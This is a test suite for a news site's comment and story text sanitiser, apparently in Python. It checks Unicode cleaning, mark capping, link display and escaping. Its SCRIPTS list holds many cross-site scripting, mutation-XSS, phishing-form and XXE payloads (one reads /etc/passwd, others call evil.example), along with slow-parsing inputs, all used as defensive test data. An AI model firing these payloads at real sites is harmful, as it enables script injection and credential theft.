"""The one cleaner of text, with hostile text of every class we know: the defence is by rule, these are examples."""

from __future__ import annotations

import sys
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from broadsheet.core import text
from broadsheet.core.refusals import Unacceptable


def readable(words, most=5000, **more):
    return text.readable(words, most=most, what="Comment", **more)


# --- The way in ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "words",
    [
        "Phở Việt Nam, ngày mai",
        "שָׁלוֹם עֲלֵיכֶם",
        "क्‍ष and ज़",
        "བསྒྲུབས་",
        "Zoë déjà vu — “quoted” … 50 %",
        "👩‍🚀 🇫🇮 👍🏽 1️⃣ ❤️",
        "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f at home",
        "社會科學院語學研究所",
        "Ålesund\ttabbed\nand on a new line",
        '2 > 1 & "fine" <b>as written</b>',
        "שלום abc العربية 123",
    ],
)
def test_honest_text_of_any_script_is_kept_as_it_was_written(words):
    assert readable(words) == unicodedata.normalize("NFC", words)


def test_letters_are_composed_so_that_equal_words_are_equal():
    assert readable("Việt".encode().decode()) == readable(unicodedata.normalize("NFD", "Việt"))


@pytest.mark.parametrize(
    "pile",
    [
        "\u0316\u0317\u0318\u0319" * 20,
        "\u0301\u0316" * 40,
        "\u20dd" * 30,
        "\u0301\u0301\u0301\u0301\u200d" * 20,  # a joiner between them starts no new letter
        "\u0301\u0301\u0301\u0301\u202e" * 20,  # nor does a control that is taken out
        "\u034f\u0301" * 40,
        "\ufe0f\u0301" * 40,
    ],
)
def test_marks_piled_on_a_letter_are_capped(pile):
    kept = readable(f"H{pile}i")
    assert kept.startswith(("H", "\u1e28")) and kept.endswith("i")
    assert sum(unicodedata.category(letter) in {"Mn", "Me"} for letter in kept) <= text.MARKS_PER_LETTER


@pytest.mark.parametrize("control", [*"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069", "\ufff9", "\ufffb"])
def test_controls_that_reorder_their_neighbours_are_taken_out(control):
    assert readable(f"abc {control} fed") == "abc  fed"


@pytest.mark.parametrize(
    "control", ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\x9f", "\U000e0041"]
)
def test_control_characters_are_taken_out(control):
    assert readable(f"a{control}b") == "ab"


def characters(wanted):
    """Every character of Unicode, as far as this Python knows it, for which `wanted` is true."""
    return [letter for code in range(sys.maxunicode + 1) if wanted(letter := chr(code))]


def test_no_character_that_controls_or_reorders_its_neighbours_is_kept_whatever_unicode_calls_it():
    reordering = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    harmful = characters(
        lambda letter: unicodedata.category(letter) == "Cc" or unicodedata.bidirectional(letter) in reordering
    )
    assert len(harmful) > 70
    kept = [letter for letter in harmful if letter in readable(f"a{letter}b")]
    assert kept == ["\t", "\n"]


def test_whatever_unicode_calls_invisible_is_nothing_to_see():
    unseen = characters(lambda letter: unicodedata.category(letter) in {"Cc", "Cf", "Zl", "Zp", "Zs"})
    assert [letter for letter in unseen if not text.is_blank(letter)] == []


MARKS = st.sampled_from("\u0301\u0316\u20dd\u0489\u05b8\u0e49\u034f\ufe0f\u200d\u202e\u2066\x00")


@given(st.text(alphabet=st.one_of(st.sampled_from("aé ש山\n"), MARKS), max_size=200))
def test_no_mixture_of_marks_and_invisible_signs_piles_up(mixture):
    """Between two things that take a place of their own stand at most four marks."""
    pile = 0
    for letter in readable(mixture):
        kind = unicodedata.category(letter)
        pile = pile + (kind in {"Mn", "Me"}) if kind in {"Mn", "Me", "Cf"} else 0
        assert pile <= text.MARKS_PER_LETTER


@pytest.mark.parametrize("lone", ["\ud800", "\udfff", "a\udc80b", "\udc00\ud800"])
def test_half_a_character_is_refused_in_a_sentence(lone):
    with pytest.raises(Unacceptable, match="no program can read"):
        readable(lone)


def test_line_ends_of_every_machine_are_one():
    assert readable("a\r\nb\rc\nd") == "a\nb\nc\nd"
    assert readable(" a \r\n b\u2028c\u3000 d ", lines=False) == "a b c d"


def test_too_much_is_refused_with_both_numbers():
    assert len(readable("x" * 5000)) == 5000
    with pytest.raises(Unacceptable, match=r"Comment: it has 5,001 characters; at most 5,000"):
        readable("x" * 5001)
    with pytest.raises(Unacceptable, match="1,000,000"):
        readable("x" * 1_000_000)


@pytest.mark.parametrize(
    "nothing",
    ["", " ", "\n\t", "\u200b\u200b", "\u200d\u200c", "\u2060", "\ufeff", "\u00ad", "\u3164\u115f\u1160\uffa0",
     "\u2800", "\u034f", "\ufe0f", "\u180e", "\u3000", "\u061c", "\u200e\u200f", "\U000e0100", "\u2063\u2062", "\x00"],
)  # fmt: skip
def test_text_with_nothing_to_see_is_blank(nothing):
    assert text.is_blank(nothing)
    assert text.is_blank(readable(nothing))


@pytest.mark.parametrize("something", ["a", ".", "👍", "é", "你", "-", "\u200ba"])
def test_text_with_something_to_see_is_not(something):
    assert not text.is_blank(something)


# --- The way out -----------------------------------------------------------------------------------------------------


class Allowed(HTMLParser):
    """Finds whatever is not in the list of what a comment may have."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.foreign, self.links = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in text.COMMENT_TAGS:
            self.foreign.append(tag)
        for name, value in attrs:
            if (tag, name) == ("a", "href"):
                self.links.append(value)
            elif (tag, name) != ("a", "rel"):
                self.foreign.append((tag, name))

    def handle_comment(self, data):
        self.foreign.append("comment")

    def handle_decl(self, decl):
        self.foreign.append("declaration")

    def handle_pi(self, data):
        self.foreign.append("instruction")


def assert_inert(html):
    found = Allowed(html)
    assert found.foreign == []
    assert [link for link in found.links if not link.lower().startswith(("http://", "https://", "mailto:"))] == []


SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/accounts/logout/">x</a>',
    '<a href="[a]java[b]script[c]:alert(1)">x</a>',
    "<a href=#><line style=behavior:url(#default) href=javascript:alert(1)></a>",
    "<math></br><textarea><mtext><template><style></textarea><img src=x onerror=alert(1)>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<b><noscript><a alt=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<svg></p><title><template><style></title><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<style>@import"//evil.example/x.css"</style>x',
    "<p style=\"position:fixed;inset:0\">x</p>",
    '<p class="masthead" id="main" contenteditable onfocus=alert(1)>x</p>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><base href=//evil.example><meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<x xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load ev:handler='javascript:alert(1)'>",
    "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<plaintext><xmp><listing><noembed><noframes>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    '[x](https://a.example/?"onmouseover="alert(1))',
    "![x](https://evil.example/pixel.gif)",
    "https://a.example/?'onclick='alert(1)",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<td draggable=true ondragend=alert(1)>test</td>",
    "<b is=foo>bar</b><button popovertarget=x>y</button>",
]  # fmt: skip


@pytest.mark.parametrize("hostile", SCRIPTS)
def test_nothing_a_reader_types_can_run(hostile):
    assert_inert(text.comment_html(readable(hostile)))


@pytest.mark.parametrize("hostile", SCRIPTS)
def test_stored_html_is_cleaned_again_whatever_is_in_it(hostile):
    once = text.clean_comment_html(hostile)
    assert_inert(once)
    assert text.clean_comment_html(once) == once


@pytest.mark.parametrize("hostile", SCRIPTS)
def test_a_story_s_html_runs_nothing_either(hostile):
    html = text.story_html(hostile)
    found = Allowed(html)
    assert {tag for tag in found.foreign if isinstance(tag, str)} <= text.STORY_TAGS
    assert not [name for name in found.foreign if isinstance(name, tuple) and name[1].startswith(("on", "style"))]
    assert not [link for link in found.links if link.lower().strip().startswith(("javascript", "data", "vbscript"))]


@given(st.text(alphabet=st.sampled_from("<>&\"'/= abijnoprstvx:()[]!-#\n`*\\")))
def test_no_mixture_of_signs_makes_a_tag_or_link_of_its_own(mixture):
    assert_inert(text.comment_html(mixture))


@given(st.text())
def test_reading_twice_changes_nothing_more(anything):
    try:
        once = readable(anything)
    except Unacceptable:
        return
    assert readable(once) == once


def test_what_was_written_is_what_is_read():
    html = text.comment_html('2 > 1 & "fine" <b>not bold</b>')
    assert html == '<p>2 &gt; 1 &amp; "fine" &lt;b&gt;not bold&lt;/b&gt;</p>\n'


def test_emphasis_quotation_lists_and_links_are_all_there_is():
    assert "<em>a</em> <strong>b</strong>" in text.comment_html("*a* **b**")
    assert "<blockquote>" in text.comment_html("> said")
    assert "<li>one</li>" in text.comment_html("- one\n- two")
    assert "a<br>\nb" in text.comment_html("a\nb")
    assert "<h1" not in text.comment_html("# not a heading")


@pytest.mark.parametrize("unseen", ["\u200b", "\u2800", "&nbsp;", "&#8203;", "**\u3164**", "`\u200b`", "_&#x2060;_"])
def test_lines_with_nothing_to_see_push_nothing_away(unseen):
    gap = f"{unseen}\n\n" * 9 + f"{unseen}\\\n" * 9 + f"{unseen}\n" * 9
    html = text.comment_html(f"Above.\n\n{gap}*b*elow\nand on.\n{gap}\n")
    assert html.count("<p>") == 2 and html.count("<br>") == 1
    assert html.startswith("<p>Above.</p>\n<p>") and "<em>b</em>elow<br>\nand on." in html
    assert text.comment_html(gap) == ""


def test_lines_that_one_sees_keep_their_breaks():
    assert text.comment_html("a\n*b*\n`c`\\\n2. d") == "<p>a<br>\n<em>b</em><br>\n<code>c</code><br>\n2. d</p>\n"
    assert text.comment_html("- \u200b\n- x") == "<ul>\n<li></li>\n<li>x</li>\n</ul>\n"


def test_a_reader_s_link_is_marked_as_theirs():
    html = text.comment_html("[link](https://example.com/x_(y)) and https://example.org/plain")
    assert '<a href="https://example.com/x_(y)" rel="ugc nofollow noopener">link</a>' in html
    assert '<a href="https://example.org/plain" rel="ugc nofollow noopener">' in html


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("[https://bank.example/login](https://thief.example/x)", "https://thief.example/x"),
        ("[bank.example](https://thief.example/x)", "https://thief.example/x"),
        ("[www.bank.example](https://thief.example/bank.example)", "https://thief.example/bank.example"),
        ("[**bank.example**/*login*](https://thief.example)", "https://thief.example"),
        ("[BANK.example](https://www.bank.example/login)", "BANK.example"),
        ("[the bank](https://bank.example)", "the bank"),
        ("[e.g. this](https://a.example)", "e.g. this"),
        ("[3.5 million](https://a.example)", "3.5 million"),
        ("[a@b.example](mailto:a@b.example)", "a@b.example"),
        ("https://bücher.com/ä", "https://bücher.com/ä"),
        ("[bücher.example](https://bücher.example/x)", "bücher.example"),
        ("bank.com/x", "bank.com/x"),
        ("<https://bank.example/x>", "https://bank.example/x"),
        ("[bank.example](https://[)", ""),
    ],
)
def test_a_link_that_says_it_leads_elsewhere_shows_where_it_leads(typed, shown):
    html = text.comment_html(typed)
    assert (f">{shown}</a>" in html) == bool(shown)
    assert_inert(html)


def test_a_story_shows_our_own_pictures_only():
    html = text.story_html('<img src="https://evil.example/x.gif" srcset="/media/a 1w, //evil.example/b 2w" alt="x">')
    assert "evil.example" not in html
    assert 'src="/media/a.jpg"' in text.story_html('<img src="/media/a.jpg" alt="x">')


def test_words_without_tags_are_for_search_and_descriptions():
    assert text.plain("<p>One &amp; two</p><p>three<br>four</p><script>no</script>") == "One & two three four"


# --- Time bombs: counted in operations, so that a slow machine is no failure -----------------------------------------


def operations(action):
    """How many Python calls and lines an action takes."""
    count = 0

    def watch(frame, event, argument):
        nonlocal count
        count += 1
        return watch

    before = sys.gettrace()
    sys.settrace(watch)
    try:
        action()
    finally:
        sys.settrace(before)
    return count


BOMBS = [
    ("", "ab", "!"), ("", "[a](", ""), ("", "*a", ""), ("http://", "x.", ""), ("", "\n ", "x"), ("", "_a*", ""),
    ("", "![", ""), ("", "> ", "x"), ("", "`", "a"), ("", "- ", ""), ("", "<a href='", ""), ("", "a@", ""),
    ("", "&", ";"), ("", "\\", ""),
]  # fmt: skip


@pytest.mark.parametrize(("before", "unit", "after"), BOMBS)
def test_the_longest_comment_costs_little_more_than_twice_half_of_it(before, unit, after):
    def cost(length):
        body = before + unit * (length // len(unit)) + after
        return operations(lambda: text.comment_html(readable(body, most=10_000)))

    assert cost(4800) < 3 * cost(2400) + 5000


def test_a_long_run_of_marks_is_cut_before_it_is_put_in_order(monkeypatch):
    """Python orders marks in the square of their number: 40,000 took three seconds, a form of 2 MB would take hours."""
    runs = []

    class Watched:
        category = staticmethod(unicodedata.category)

        @staticmethod
        def normalize(form, words):
            runs.append(len(words))
            return unicodedata.normalize(form, words)

    monkeypatch.setattr(text, "unicodedata", Watched)
    text.readable("a" + "\u0301\u0316" * 100_000, most=200_000, what="Text")
    assert max(runs) <= 1 + text.MARKS_PER_LETTER
